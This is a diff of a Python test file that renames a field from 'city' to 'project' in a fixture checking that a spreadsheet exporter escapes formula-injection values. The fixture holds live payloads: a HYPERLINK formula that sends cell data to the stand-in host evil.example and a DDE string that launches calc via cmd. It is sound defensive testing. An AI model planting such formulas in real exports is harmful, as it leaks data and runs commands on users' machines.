@@ -26,7 +26,7 @@ from repository.web.app import create_app
 HOSTILE = """---
 title: '=HYPERLINK("http://evil.example/?"&A1,"Open the sheet")'
 summary: "+cmd|' /C calc'!A0"
-city: "@SUM(A1:A9)"
+project: "@SUM(A1:A9)"
 country: France
 partners: ["-2+3", "Ville de Lyon"]
 ---
@@ -60,7 +60,7 @@ def _row(text: str) -> dict[str, str]:
 def _check(row: dict[str, str]) -> None:
     assert row["title"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Open the sheet\")"
     assert row["summary"] == "'+cmd|' /C calc'!A0"
-    assert row["city"] == "'@SUM(A1:A9)"
+    assert row["project"] == "'@SUM(A1:A9)"
     assert row["partners"] == "'-2+3; Ville de Lyon"
     assert row["objectives"] == "• keep the night calm\n• mediate between residents and bars"
     assert row["contact"] == "mediation@lyon.example"  # the reader strips the tab
